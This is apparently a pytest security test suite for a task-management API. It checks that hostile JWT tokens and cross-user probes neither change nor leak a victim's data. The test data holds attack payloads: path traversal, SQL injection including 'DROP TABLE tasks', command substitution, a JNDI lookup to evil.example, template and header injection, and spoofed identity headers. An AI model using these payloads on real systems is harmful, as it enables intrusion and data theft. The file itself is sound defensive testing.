"""A rehearsal: what attackers try with tokens, ids, bodies, queries and headers, on the running service.

The victim's data must be the same to the byte afterwards, and no answer may have held any of it.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import uuid4

import httpx
import pytest
from flask import Flask

from tests.auth.hostile_tokens import HOSTILE, HS, confused, hs256
from tests.auth_server import AuthServer
from tests.endpoints import ENDPOINTS
from tests.people import claims_for, token_for
from tests.service import Service

MARKER = "the victim's own words"
PROBES = 2000


@dataclass
class Victim:
    """Somebody with tasks, and everything of theirs that could fall into wrong hands, but the token."""

    service: Service
    user: str = "victim"

    def __post_init__(self) -> None:
        tasks = [{"title": f"{MARKER} {n}", "description": MARKER, "priority": "low"} for n in range(12)]
        self.ids = [self.call("POST", json=task).json()["id"] for task in tasks]
        self.call("DELETE", f"/api/tasks/{self.ids.pop()}")
        self.key = {"Idempotency-Key": "the-victims-key"}
        self.ids.append(self.call("POST", json=tasks[0], headers=self.key).json()["id"])
        page = self.call("GET", "/api/tasks?limit=2")
        self.etag = page.headers["ETag"]
        self.cursor = page.links["next"]["url"].partition("cursor=")[2]
        self.token = self.call("GET", "/api/tasks/changes?limit=3").json()["token"]
        self.before = self.everything()

    def call(self, method: str, path: str = "/api/tasks", **kwargs: Any) -> httpx.Response:
        answer = self.service.call(self.user, method, path, **kwargs)
        assert answer.is_success, answer.text
        return answer

    def everything(self) -> list[bytes]:
        paths = (
            "/api/tasks?sort=updated",
            "/api/tasks/changes",
            "/api/account",
            "/api/account/export?format=csv",
        )
        return [self.call("GET", path).content for path in paths]


@pytest.fixture
def victim(
    app: Flask, environment: dict[str, str], auth_server: AuthServer, tmp_path: Path
) -> Iterator[Victim]:
    with Service({**environment, "BETTER_AUTH_URL": auth_server.url}, tmp_path) as service:
        victim = Victim(service)
        yield victim
        assert victim.everything() == victim.before
        assert MARKER not in service.output
        assert "Traceback" not in service.output
        assert '"status":500' not in service.output


# ---- tokens

WRONG: list[Any] = [
    None,
    True,
    False,
    -1,
    0.5,
    "",
    "x",
    "4000000000",
    [],
    ["victim"],
    {},
    {"$ne": None},
    [[]],
    10**400,
]
KIDS = [
    "../../../../etc/passwd",
    "/dev/null",
    "file:///dev/null",
    "https://evil.example/jwks",
    "' OR '1'='1",
    "x'; DROP TABLE tasks; --",
    "x' UNION SELECT 'secret",
    "`id`",
    "$(id)",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "\x00",
    "\r\nX-Evil: 1",
    "x" * 8000,
    "",
]


def hostile_tokens(auth_server: AuthServer) -> Iterator[tuple[str, str]]:
    yield from HOSTILE.items()
    yield from wrong_claims(auth_server)
    yield from strange_headers(auth_server)
    for kind, good in (("HS256", token_for("victim")), ("EdDSA", auth_server.token("victim"))):
        yield from damaged(kind, good)
    yield from confused(auth_server)  # last, because it rotates the keys


def wrong_claims(auth_server: AuthServer) -> Iterator[tuple[str, str]]:
    """Every claim that counts, with a value of every wrong type, truly signed in both ways."""
    for wrong in WRONG:
        for claim in ("sub", "exp", "nbf", "iat"):
            if not is_fine(claim, wrong):
                yield f"HS256 {claim}={wrong!r:.30}", hs256(HS, claims_for("victim") | {claim: wrong})
        for claim in ("sub", "exp", "nbf", "iat", "iss", "aud"):
            if not is_fine(claim, wrong):
                claims = auth_server.claims("victim") | {claim: wrong}
                yield f"EdDSA {claim}={wrong!r:.30}", auth_server.keys[0].sign(claims)


def is_fine(claim: str, value: object) -> bool:
    """Whether a claim may have this value: any text for a name, the past for a beginning, the future for
    an end."""
    if claim == "sub":
        return isinstance(value, str) and value != ""
    if claim == "exp":
        return value == 10**400
    return claim in ("nbf", "iat") and value in (-1, 0.5) and not isinstance(value, bool)


def strange_headers(auth_server: AuthServer) -> Iterator[tuple[str, str]]:
    claims = auth_server.claims("victim")
    for algorithm in ("EdDSA", "RS256", "ES256", "none", "HS256 "):
        for kid in KIDS:
            yield f"{algorithm} kid={kid:.20}", hs256({"alg": algorithm, "kid": kid}, claims)
    for name in ("jku", "x5u", "jwk", "x5c", "x5t", "crit", "b64", "enc", "zip", "cty", "typ"):
        header = {"alg": "EdDSA", "kid": auth_server.keys[0].kid, name: f"{auth_server.url}/evil"}
        yield f"EdDSA {name}", hs256(header, claims)


def damaged(kind: str, good: str) -> Iterator[tuple[str, str]]:
    """The token cut short, and with one character changed, all along its length."""
    for at in range(0, len(good) - 1, max(1, len(good) // 40)):
        yield f"{kind} cut at {at}", good[:at]
        other = "A" if good[at] != "A" else "B"
        yield f"{kind} changed at {at}", f"{good[:at]}{other}{good[at + 1 :]}"


def test_no_hostile_token_opens_anything(victim: Victim, auth_server: AuthServer) -> None:
    tried = 0
    for name, token in hostile_tokens(auth_server):
        path = f"/api/tasks/{victim.ids[tried % len(victim.ids)]}" if tried % 2 else "/api/tasks"
        try:
            answer = victim.service.http.get(path, headers={b"Authorization": f"Bearer {token}".encode()})
        except httpx.LocalProtocolError:  # httpx does not send what is no header
            continue
        assert answer.status_code in (400, 401, 431, 503), name
        assert answer.status_code != 503 or auth_server.fetches, name
        assert MARKER not in answer.text, name
        tried += 1
    assert tried > 300


# ---- probes


class Mallory:
    """Somebody signed in who tries everything that might name another user."""

    def __init__(self, victim: Victim, seed: int) -> None:
        self.victim, self.random = victim, random.Random(seed)

    def probe(self) -> httpx.Response:
        method, path, sent = self.random.choice(ENDPOINTS)
        path = path.format(id=self.an_id()) + (self.a_query() if self.random.random() < 0.4 else "")
        body = self.a_body(sent) if method != "GET" else None
        return self.victim.service.call("mallory", method, path, json=body, headers=self.headers())

    def an_id(self) -> str:
        known: str = self.random.choice(self.victim.ids)
        return self.random.choice(
            [
                known,
                known,
                known.upper(),
                f"{known}%00",
                f"{known}/",
                f"..%2f{known}",
                f"{{{known}}}",
                str(uuid4()),
            ]
        )

    def a_query(self) -> str:
        parameters: list[str] = [
            "?status=completed",
            f"?user_id={self.victim.user}",
            f"?sub={self.victim.user}",
            f"?q={MARKER}",
            f"?q=%25&user={self.victim.user}",
            f"?cursor={self.victim.cursor}",
            f"?cursor={self.victim.cursor}&limit=2",
            f"?since={self.victim.token}",
            f"?since={self.victim.token}&limit=1000",
            "?format=csv",
            "?sort=title,created&order=asc",
            "?sort=title;select%20*%20from%20tasks",
            "?q=' OR user_id='victim",
        ]
        return str(self.random.choice(parameters))

    def a_body(self, usual: object) -> Any:
        naming = {"user_id": self.victim.user, "id": self.random.choice(self.victim.ids)}
        operations = [
            {"op": "update", "id": self.an_id(), "task": {"title": "mine"}},
            {"op": "complete", "id": self.an_id(), "completed": True},
            {"op": "delete", "id": self.an_id()},
            {"op": "create", "task": {"title": "mine", **naming}},
        ]
        return self.random.choice(
            [
                usual,
                usual,
                {"title": "mine", **naming},
                {"title": "mine", "user": self.victim.user, "owner": naming},
                {"completed": True, **naming},
                {"operations": self.random.sample(operations, self.random.randint(1, 4))},
                {"confirm": "erase", **naming},
                {"confirm": "erase", "user": self.victim.user},
                [naming],
            ]
        )

    def headers(self) -> dict[str, str]:
        user = self.victim.user
        choices = [
            {},
            {},
            self.victim.key,
            {"If-None-Match": "*"},
            {"If-None-Match": self.victim.etag},
            {"If-Match": "*"},
            {"If-Match": self.victim.etag},
            {"X-User-Id": user, "X-Forwarded-User": user, "Remote-User": user},
            {"X-HTTP-Method-Override": "DELETE", "X-Original-URL": f"/api/tasks/{self.victim.ids[0]}"},
            {"Cookie": f"user={user}; session={user}"},
            {"X-Forwarded-For": "127.0.0.1", "X-Forwarded-Prefix": "/api", "Forwarded": "for=127.0.0.1"},
        ]
        return self.random.choice(choices)


def test_no_probe_reaches_another_users_data(victim: Victim) -> None:
    mallory = Mallory(victim, seed=20261121)
    statuses: dict[int, int] = {}
    for _ in range(PROBES):
        answer = mallory.probe()
        assert answer.status_code < 500, (answer.request.method, answer.request.url, answer.text)
        assert MARKER not in answer.text.replace(str(answer.request.url), ""), answer.request.url
        assert victim.user not in answer.text, (answer.request.method, answer.request.url, answer.text)
        statuses[answer.status_code] = statuses.get(answer.status_code, 0) + 1
    assert {200, 201, 204, 400, 403, 404, 410, 412} - set(statuses) <= {410}, statuses
